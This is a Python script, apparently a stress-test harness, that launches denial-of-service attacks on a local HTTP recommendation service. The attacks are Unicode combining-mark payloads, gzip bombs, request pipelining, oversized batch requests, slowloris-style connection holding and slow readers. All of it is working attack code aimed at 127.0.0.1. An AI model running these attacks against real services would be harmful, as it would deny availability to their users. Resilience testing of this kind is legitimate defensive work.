"""Processes of their own, each a client that wants to keep the service from the others: `python attacks.py NAME PORT`.

Each goes on until it is ended. An attacker has processors of its own; here it has to share the service's, so it gets them only when
nobody else wants them (SCHED_IDLE), and what it sends is made before.
"""

from __future__ import annotations

import gzip
import json
import os
import resource
import select
import socket
import sys
import threading
import time

MARKS = "a" + "\u0301" * 260_000 + "\u0327" * 260_000
CONNECTIONS = 4
# A second, of those who hold many. More would be a flood, which is the network's to stop.
NEW_CONNECTIONS = 5000
# Of 127/8, so that no limit on a client's connections holds them back; each has room for 28,000 ports.
ADDRESSES = [f"127.0.{number}.2" for number in range(1, 17)]


def post(path: str, body: bytes, *fields: str) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: a", f"Content-Length: {len(body)}", *fields]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def zipped(body: bytes) -> tuple[bytes, str]:
    return gzip.compress(body, 9), "Content-Encoding: gzip"


def connect(port: int, source: str = "127.0.0.1") -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), 30, (source, 0))


def again_and_again(port: int, message: bytes) -> None:
    """Sends it and waits for an answer, on a new connection where the old one is closed."""
    while True:
        try:
            with connect(port) as connection:
                while True:
                    connection.sendall(message)
                    if not connection.recv(1 << 20):
                        break
        except OSError:
            time.sleep(0.01)


def on_connections(port: int, messages: list[bytes]) -> None:
    threads = [threading.Thread(target=again_and_again, args=(port, message), daemon=True) for message in messages]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


# MARK: 1.1

def combining_marks(port: int) -> None:
    """Names, ids and a header value whose comparison as Unicode text takes seconds."""
    name = post("/recommend", *zipped(json.dumps({MARKS: 1}, ensure_ascii=False).encode()))
    item = post("/recommend", *zipped(json.dumps({"items": [MARKS]}, ensure_ascii=False).encode()))
    short = MARKS[:3900] + MARKS[-3900:]
    header = post("/recommend", b"{}", "Content-Type: " + short)
    target = f"GET /items?{'%CC%81' * 1200} HTTP/1.1\r\nHost: a\r\n\r\n".encode()
    on_connections(port, [name, item, header, target])


# MARK: 1.2

def bombs(port: int) -> None:
    """A kilobyte that becomes a megabyte, with a request whose body nobody reads."""
    body, coding = zipped(bytes(1 << 20))
    head = f"GET /health HTTP/1.1\r\nHost: a\r\n{coding}\r\nContent-Length: {len(body)}\r\n\r\n".encode()
    on_connections(port, [8 * (head + body)] * CONNECTIONS)


def pipelines(port: int) -> None:
    """Thousands of requests for a document to be compressed, without waiting for an answer."""
    message = 1000 * b"GET /openapi.yaml HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\n\r\n"
    on_connections(port, [message])


# MARK: 1.3

def batch(count: int, recommendations: int, items: list[str], **more) -> bytes:
    member = {"items": items, "num_recs": recommendations, **more}
    return json.dumps({"requests": [member] * count}).encode()


def refused_work(port: int) -> None:
    """The most that one request can ask for."""
    body = batch(256, 100, catalogue()[:40], strategy="greedy", explain=True)
    on_connections(port, [post("/recommend/batch", *zipped(body))] * CONNECTIONS)


def largest_work(port: int) -> None:
    """The most that one request is given, found by asking for less and less."""
    items = catalogue()[:40]
    on_connections(port, [largest(port, items, strategy="greedy"), largest(port, items),
                          largest(port, items, strategy="greedy", explain=True), largest(port, items, explain=True)])


def largest(port: int, items: list[str], **more) -> bytes:
    for recommendations in (100, 50, 20, 10, 5, 2, 1):
        for count in (256, 128, 64, 32, 16, 8, 4, 2, 1):
            message = post("/recommend/batch", *zipped(batch(count, recommendations, items, **more)))
            if is_given(port, message):
                return message
    raise SystemExit("no batch is small enough")


def is_given(port: int, message: bytes) -> bool:
    while True:
        try:
            with connect(port) as connection:
                connection.sendall(message)
                start = connection.recv(64)
        except OSError:
            continue  # closed for somebody else: asked again
        if start.startswith(b"HTTP/1.1 200"):
            return True
        if start.startswith(b"HTTP/1.1 422"):
            return False
        time.sleep(0.05)


def catalogue() -> list[str]:
    return json.loads(os.environ["CLOZE_ITEMS"])


# MARK: 1.4

def silent(port: int) -> None:
    hold(port, most_connections(), b"")


def slow_headers(port: int) -> None:
    hold(port, most_connections(), b"GET / HTTP/1.1\r\nX: ", drip=b"x")


def most_connections() -> int:
    """20,000, or what one process may have."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    return min(20_000, most - 200)


def hold(port: int, count: int, first: bytes, drip: bytes = b"") -> None:
    """Wants so many connections, and opens NEW_CONNECTIONS a second until it has them; those that are closed it opens again."""
    held: dict[int, socket.socket] = {}
    closed = select.epoll()
    number, began = 0, time.monotonic()
    while True:
        due = int(NEW_CONNECTIONS * (time.monotonic() - began)) - number
        for _ in range(min(due, count - len(held))):
            number += 1
            try:
                connection = connect(port, ADDRESSES[number % len(ADDRESSES)])
                connection.setblocking(False)
                if first:
                    connection.send(first)
            except OSError:
                continue  # closed before it was of use
            held[connection.fileno()] = connection
            closed.register(connection, select.EPOLLIN)
        # Few at a time: the kernel lets nobody else to the processor meanwhile.
        for descriptor, _ in closed.poll(0.01, 64):
            held.pop(descriptor).close()
        if drip and number % 1000 == 0:
            for connection in list(held.values())[:1000]:
                try:
                    connection.send(drip)
                except OSError:
                    pass  # closed; told of it next time


def slow_readers(port: int) -> None:
    """330 that ask for much and take nothing."""
    message = 200 * b"GET /openapi.yaml HTTP/1.1\r\nHost: a\r\n\r\n"
    while True:
        readers = []
        for number in range(330):
            reader = socket.socket()
            reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            reader.bind((ADDRESSES[number % len(ADDRESSES)], 0))
            readers.append(reader)
            try:
                reader.connect(("127.0.0.1", port))
                reader.setblocking(False)
                reader.send(message)
            except OSError:
                pass  # closed for somebody else
        time.sleep(5)
        for reader in readers:
            reader.close()


ATTACKS = {
    "combining marks": combining_marks, "gzip bombs to /health": bombs, "pipelined documents": pipelines,
    "more work than is given": refused_work, "as much work as is given": largest_work,
    "20,000 silent connections": silent, "20,000 slow headers": slow_headers, "330 slow readers": slow_readers,
}

if __name__ == "__main__":
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    ATTACKS[sys.argv[1]](int(sys.argv[2]))
